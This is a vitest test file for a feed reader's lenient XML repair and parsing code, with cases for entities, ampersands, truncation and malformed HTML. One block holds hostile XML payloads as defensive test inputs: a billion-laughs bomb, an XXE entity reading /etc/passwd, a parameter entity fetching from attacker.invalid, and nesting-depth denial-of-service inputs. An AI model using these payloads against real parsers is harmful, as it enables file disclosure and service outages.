import { describe, expect, it } from 'vitest';
import type { ParsedFeed, ParsedItem } from '../../src/domain.js';
import { TributaryError } from '../../src/errors.js';
import {
  closeTruncated,
  firstIllegalCharacter,
  MAX_NESTING_DEPTH,
  rebalanceHtml,
  repairXml,
  scanElements,
  stripLeadingJunk,
  type XmlRepair,
} from '../../src/ingest/lenient-xml.js';
import { parseFeed } from '../../src/ingest/parse-feed.js';

const URL = 'https://feeds.example/feed';
const rss = (items: string, channelExtra = ''): string =>
  `<rss version="2.0"><channel><title>T</title><link>https://site.example/</link>${channelExtra}${items}</channel></rss>`;
const decl = '<?xml version="1.0" encoding="UTF-8"?>\n';

const first = (feed: ParsedFeed): ParsedItem => {
  const item = feed.items[0];
  if (!item) throw new Error('no items');
  return item;
};

async function parseError(body: string): Promise<TributaryError> {
  try {
    await parseFeed(body, { url: URL });
  } catch (err) {
    if (err instanceof TributaryError) return err;
    throw err;
  }
  throw new Error('expected parseFeed to throw');
}

// Each case is a document strict XML rejects. The lenient path must report the repair, and the
// repaired document must parse into the text the publisher meant.
describe('the lenient path repairs breakage common in real feeds', () => {
  it.each<{ name: string; body: string; repairs: XmlRepair[]; expected: Partial<ParsedItem>; title?: string }>([
    {
      name: 'HTML named entities in a title (RSS 0.91 era)',
      body: rss('<item><title>Caf&eacute; &ndash; na&iuml;ve&nbsp;&hellip;</title></item>'),
      repairs: ['html-entities'],
      expected: { title: 'Café – naïve\u00a0…' },
    },
    {
      name: 'RSS 0.91 with the Netscape DOCTYPE and Latin-1 entities',
      body: `${decl}<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel><title>M&uuml;ller &amp; S&ouml;hne</title><item><title>&Agrave; la une</title><link>https://site.example/1</link></item></channel></rss>`,
      repairs: ['doctype', 'encoding-declaration', 'html-entities'],
      expected: { title: 'À la une', link: 'https://site.example/1' },
      title: 'Müller & Söhne',
    },
    {
      // Kept as the characters "&bogus;" (which the RSS title reader then takes for HTML, where an
      // unknown reference shows as written): neither dropped nor turned into U+FFFD.
      name: 'an entity HTML does not define stays literal text',
      body: rss('<item><title>x &bogus; &eacute;</title></item>'),
      repairs: ['html-entities'],
      expected: { title: 'x &bogus; é' },
    },
    {
      name: 'unescaped & in a link',
      body: rss('<item><link>https://site.example/story?id=1&ref=rss</link></item>'),
      repairs: ['bare-ampersands'],
      expected: { link: 'https://site.example/story?id=1&ref=rss' },
    },
    {
      name: 'unescaped & in text',
      body: rss('<item><title>Q&A: Rock & Roll</title></item>'),
      repairs: ['bare-ampersands'],
      expected: { title: 'Q&amp;A: Rock &amp; Roll' },
    },
    {
      name: 'unescaped & in an attribute (Atom link href)',
      body: '<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry><link href="https://site.example/?a=1&b=2"/></entry></feed>',
      repairs: ['bare-ampersands'],
      expected: { link: 'https://site.example/?a=1&b=2' },
    },
    {
      name: 'CDATA is left as it is while the text around it is repaired',
      body: rss('<item><title>Tom & Jerry</title><description><![CDATA[a & b &nbsp; c]]></description></item>'),
      repairs: ['bare-ampersands'],
      expected: { title: 'Tom &amp; Jerry', summaryHtml: 'a & b &nbsp; c' },
    },
    {
      name: 'junk before the XML declaration',
      body: `garbage\n${decl}${rss('<item><title>i</title></item>')}`,
      repairs: ['leading-junk'],
      expected: { title: 'i' },
    },
    {
      name: 'a PHP warning before the XML declaration',
      body: `<br />\n<b>Warning</b>: Cannot modify header information - headers already sent in <b>/var/www/feed.php</b> on line <b>3</b><br />\n${decl}${rss('<item><title>i</title></item>')}`,
      repairs: ['leading-junk'],
      expected: { title: 'i' },
    },
    {
      name: 'a BOM after whitespace, before the declaration',
      body: ` \n\uFEFF${decl}${rss('<item><title>i</title></item>')}`,
      repairs: ['leading-junk'],
      expected: { title: 'i' },
    },
    {
      name: 'raw control characters',
      body: rss('<item><title>a\u0000b\u0008c\u000bd\u001fe</title></item>'),
      repairs: ['control-characters'],
      expected: { title: 'abc de' },
    },
    {
      name: 'control characters as numeric references',
      body: rss('<item><title>alpha&#26;omega &#x0;x&#12;y</title></item>'),
      repairs: ['control-characters'],
      expected: { title: 'alphaomega x y' },
    },
    {
      name: 'a wrong declared encoding together with other breakage',
      body: `<?xml version="1.0" encoding="bogus-8"?>${rss('<item><title>Gr&uuml;&szlig;e aus K\u00f6ln</title></item>')}`,
      repairs: ['encoding-declaration', 'html-entities'],
      expected: { title: 'Grüße aus Köln' },
    },
    {
      name: 'the final ">" is missing',
      body: `${rss('<item><title>i</title></item>')}`.slice(0, -1),
      repairs: ['truncated'],
      expected: { title: 'i' },
    },
    {
      name: 'cut off inside the second item: the partial item is dropped',
      body: `<rss version="2.0"><channel><title>T</title><item><title>one</title><link>https://site.example/1</link></item><item><title>two</title><link>https://site.example/2`,
      repairs: ['truncated'],
      expected: { title: 'one', link: 'https://site.example/1' },
    },
    {
      name: 'cut off inside a CDATA section',
      body: `<rss version="2.0"><channel><title>T</title><item><title>one</title></item><item><description><![CDATA[<p>half`,
      repairs: ['truncated'],
      expected: { title: 'one' },
    },
    {
      name: 'unclosed <br> and <img> in unescaped HTML',
      body: rss('<item><description><p>a<br>b<img src="https://site.example/i.png"></p></description></item>'),
      repairs: ['unbalanced-html'],
      expected: { summaryHtml: '<p>a<br>b<img src="https://site.example/i.png"></p>' },
    },
    {
      name: 'a stray close tag left by a template',
      body: rss('<item><description><p>a</p></div></description></item>'),
      repairs: ['unbalanced-html'],
      expected: { summaryHtml: '<p>a</p>' },
    },
  ])('$name', async ({ body, repairs, expected, title }) => {
    expect(repairXml(body).repairs).toEqual(expect.arrayContaining(repairs));
    const feed = await parseFeed(body, { url: URL });
    expect(first(feed)).toMatchObject(expected);
    if (title !== undefined) expect(feed.title).toBe(title);
  });

  it('counts only the complete items of a truncated feed', async () => {
    const feed = await parseFeed(`<rss version="2.0"><channel><title>T</title><item><title>one</title></item><item><title>tw`, { url: URL });
    expect(feed.items.map((i) => i.title)).toEqual(['one']);
  });

  it.each([
    { name: 'a mismatched close tag around content', body: rss('<item><title>t</description></item>'), message: /^malformed feed XML: Unexpected close tag/ },
    { name: 'an element left open before the items', body: rss('<itunes:category text="Tech"><item><title>t</title></item>'), message: /^malformed feed XML: Unexpected close tag/ },
    { name: 'plain text with an ampersand', body: 'Service Unavailable & more', message: /^not a feed: the document is neither XML nor JSON$/ },
    { name: 'an HTML page with leading junk', body: 'x<!DOCTYPE html><html><body>&nbsp;</body></html>', message: /^not a feed: the document is neither XML nor JSON$/ },
    { name: 'an HTML page', body: '<!DOCTYPE html><html><body>&nbsp;</body></html>', message: /^not a feed: it is an HTML page$/ },
  ])('leaves $name an error, reporting the original problem', async ({ body, message }) => {
    const err = await parseError(body);
    expect(err.kind).toBe('parse');
    expect(err.subject).toBe(URL);
    expect(err.message).toMatch(message);
  });
});

describe('the lenient path never expands entities', () => {
  const lol = (levels: number): string => {
    let decls = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= levels; i++) decls += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    return `${decl}<!DOCTYPE rss [${decls}]>${rss(`<item><title>&lol${levels};</title><description>&lol${levels};</description></item>`)}`;
  };

  it('reads a billion-laughs document without expanding it, fast', async () => {
    const started = performance.now();
    const feed = await parseFeed(lol(9), { url: URL });
    expect(performance.now() - started).toBeLessThan(1000);
    // The reference stays the literal text "&lol9;" (the RSS title reader takes it for HTML).
    expect(first(feed).title).toBe('&lol9;');
    expect(first(feed).summaryHtml).toBe('&lol9;');
  });

  it('does not read an external entity (SYSTEM "file:///etc/passwd")', async () => {
    const body = `${decl}<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${rss('<item><title>&xxe;</title></item>')}`;
    const feed = await parseFeed(body, { url: URL });
    expect(first(feed).title).toBe('&xxe;');
    expect(JSON.stringify(feed)).not.toMatch(/root:/);
  });

  it('does not fetch or expand parameter entities', async () => {
    const body = `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>${rss('<item><title>t</title></item>')}`;
    expect(first(await parseFeed(body, { url: URL })).title).toBe('t');
  });

  it('keeps output bounded for a large entity referenced many times (quadratic blowup)', async () => {
    const body = `<!DOCTYPE rss [<!ENTITY big "${'x'.repeat(50_000)}">]>${rss(`<item><description>${'&big;'.repeat(10_000)}</description></item>`)}`;
    const feed = await parseFeed(body, { url: URL });
    expect(first(feed).summaryHtml?.length).toBe('&big;'.length * 10_000);
  });

  it('rejects many elements nested deep within the depth limit, fast, before parsing', async () => {
    const started = performance.now();
    const err = await parseError(rss(`<item><description>${'<a>'.repeat(200)}${'<b/>'.repeat(60_000)}${'</a>'.repeat(200)}</description></item>`));
    expect(performance.now() - started).toBeLessThan(1000);
    expect(err.message).toBe("malformed feed XML: elements nested too deeply for the document's size");
  });

  it('rejects elements nested deeper than the limit, fast, before parsing', async () => {
    const started = performance.now();
    const err = await parseError(rss(`<item><description>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</description></item>`));
    expect(performance.now() - started).toBeLessThan(1000);
    expect(err.message).toBe(`malformed feed XML: elements nested deeper than ${MAX_NESTING_DEPTH} levels`);
  });
});

describe('repairXml', () => {
  it.each<{ name: string; input: string; output: string; repairs: XmlRepair[] }>([
    { name: 'nothing to repair', input: '<rss><channel/></rss>', output: '<rss><channel/></rss>', repairs: [] },
    { name: 'DOCTYPE with an internal subset removed', input: '<!DOCTYPE rss [<!ENTITY a "b>c">]><rss/>', output: '<rss/>', repairs: ['doctype'] },
    { name: 'a DOCTYPE inside content left alone', input: '<rss><d><![CDATA[<!DOCTYPE html [x]]]></d>&nbsp;</rss>', output: '<rss><d><![CDATA[<!DOCTYPE html [x]]]></d>&#160;</rss>', repairs: ['html-entities'] },
    { name: 'encoding pseudo-attribute removed', input: "<?xml version='1.0' encoding='ISO-8859-1' standalone='yes'?><rss/>", output: "<?xml version='1.0' standalone='yes'?><rss/>", repairs: ['encoding-declaration'] },
    { name: 'named entity to a numeric reference', input: '<t>&eacute;</t>', output: '<t>&#233;</t>', repairs: ['html-entities'] },
    { name: 'an entity of two code points', input: '<t>&NotEqualTilde;</t>', output: '<t>&#8770;&#824;</t>', repairs: ['html-entities'] },
    { name: 'XML entities and numeric references kept', input: '<t>&amp;&lt;&gt;&quot;&apos;&#233;&#xE9;</t>', output: '<t>&amp;&lt;&gt;&quot;&apos;&#233;&#xE9;</t>', repairs: [] },
    { name: 'bare ampersands, also "&#" without digits', input: '<t>a & b &# &x=1</t>', output: '<t>a &amp; b &amp;# &amp;x=1</t>', repairs: ['bare-ampersands'] },
    { name: 'comment content untouched', input: '<t><!-- a & b &nbsp; --></t>', output: '<t><!-- a & b &nbsp; --></t>', repairs: [] },
    { name: 'lone surrogate removed', input: '<t>a\ud800b</t>', output: '<t>ab</t>', repairs: ['control-characters'] },
    { name: 'surrogate pair kept', input: '<t>\ud83d\ude00</t>', output: '<t>\ud83d\ude00</t>', repairs: [] },
  ])('$name', ({ input, output, repairs }) => {
    expect(repairXml(input)).toEqual({ text: output, repairs });
  });
});

describe('stripLeadingJunk', () => {
  it.each([
    { name: 'already at the declaration', input: '<?xml version="1.0"?><rss/>', output: '<?xml version="1.0"?><rss/>' },
    { name: 'comment before the declaration', input: '<!-- x -->\n<?xml version="1.0"?><rss/>', output: '<?xml version="1.0"?><rss/>' },
    { name: 'text before the root, no declaration', input: 'oops <rss version="2.0"/>', output: '<rss version="2.0"/>' },
    { name: 'a declaration quoted inside an item is not a start', input: '<rss><channel><item><description><![CDATA[<?xml version="1.0"?>]]></description></item></channel></rss>', output: '<rss><channel><item><description><![CDATA[<?xml version="1.0"?>]]></description></item></channel></rss>' },
    { name: 'no markup at all', input: 'Service Unavailable', output: 'Service Unavailable' },
  ])('$name', ({ input, output }) => {
    expect(stripLeadingJunk(input)).toBe(output);
  });
});

describe('scanElements, closeTruncated and rebalanceHtml', () => {
  it.each([
    { name: 'balanced', input: '<a><b/><c>t</c></a>', open: [], depth: 2, tail: null },
    { name: 'open at the end', input: '<a><b><c/>', open: ['a', 'b'], depth: 2, tail: null },
    { name: 'incomplete close tag', input: '<a></a', open: ['a'], depth: 1, tail: 3 },
    { name: 'incomplete start tag', input: '<a><b x="1"', open: ['a'], depth: 1, tail: 3 },
    { name: 'unterminated CDATA', input: '<a><![CDATA[<b>', open: ['a'], depth: 1, tail: 3 },
    { name: '">" inside a quoted attribute', input: '<a t="x > y"><b/></a>', open: [], depth: 1, tail: null },
    { name: 'markup inside CDATA and comments is text', input: '<a><![CDATA[<b><c>]]><!-- <d> --></a>', open: [], depth: 1, tail: null },
  ])('scans $name', ({ input, open, depth, tail }) => {
    const scan = scanElements(input);
    expect(scan.open.map((e) => e.name)).toEqual(open);
    expect(scan.maxDepth).toBe(depth);
    expect(scan.incompleteTailAt).toBe(tail);
  });

  it('records implicitly closed elements and stray close tags', () => {
    const scan = scanElements('<d><p>a<br>b</p></x></d>');
    expect(scan.implicitlyClosed.map((e) => e.name)).toEqual(['br']);
    expect(scan.strayCloseTags).toEqual([{ at: 16, end: 20 }]);
  });

  it('stops at the depth limit', () => {
    expect(scanElements('<a>'.repeat(10), 5)).toMatchObject({ overLimit: 'depth', maxDepth: 6 });
    expect(scanElements('<a>'.repeat(5), 5).overLimit).toBe(null);
  });

  it('stops at the work limit: the sum of all elements\' depths', () => {
    // 3 levels, then 10 empty elements at depth 4: 1 + 2 + 3 + 10 * 4 = 46.
    const doc = `<a><b><c>${'<d/>'.repeat(10)}</c></b></a>`;
    expect(scanElements(doc, 256, 46).overLimit).toBe(null);
    expect(scanElements(doc, 256, 45).overLimit).toBe('work');
  });

  it.each([
    { name: 'missing final ">"', input: '<rss><channel></channel></rss', output: '<rss><channel></channel></rss>' },
    { name: 'open elements closed innermost first', input: '<rss><channel><title>t</title>', output: '<rss><channel><title>t</title></channel></rss>' },
    { name: 'a cut-off entry dropped whole', input: '<feed><entry><id>1</id></entry><entry><id>2', output: '<feed><entry><id>1</id></entry></feed>' },
    { name: 'a complete document unchanged', input: '<rss><channel/></rss>', output: '<rss><channel/></rss>' },
  ])('closeTruncated: $name', ({ input, output }) => {
    expect(closeTruncated(input)).toBe(output);
  });

  it.each([
    { name: 'void elements made empty-element tags', input: '<d><p>a<br>b<hr class="x"></p></d>', output: '<d><p>a<br/>b<hr class="x"/></p></d>' },
    { name: 'stray close tag dropped', input: '<d>a</span></d>', output: '<d>a</d>' },
    { name: 'a non-void element left open is not touched', input: '<d><p>a<b>b</p></d>', output: '<d><p>a<b>b</p></d>' },
  ])('rebalanceHtml: $name', ({ input, output }) => {
    expect(rebalanceHtml(input)).toBe(output);
  });

  it.each([
    { name: 'unterminated comments', input: '<!--'.repeat(500_000) },
    { name: 'unterminated quotes', input: '<a "'.repeat(500_000) },
    { name: 'unclosed start tags', input: '<a b=\''.repeat(500_000) },
    { name: 'unterminated CDATA sections', input: '<![CDATA['.repeat(300_000) },
  ])('stays linear on $name', ({ input }) => {
    const started = performance.now();
    repairXml(input);
    expect(performance.now() - started).toBeLessThan(1500);
  });
});

describe('firstIllegalCharacter', () => {
  it.each([
    { name: 'clean text', input: '<t>a\tb\nc\r</t>', found: null },
    { name: 'NUL', input: '<t>a\u0000</t>', found: { code: 0, at: 4 } },
    { name: 'U+FFFE', input: '<t>\ufffe</t>', found: { code: 0xfffe, at: 3 } },
    { name: 'a C1 control is allowed in XML 1.0', input: '<t>\u0085</t>', found: null },
  ])('$name', ({ input, found }) => {
    expect(firstIllegalCharacter(input)).toEqual(found);
  });
});
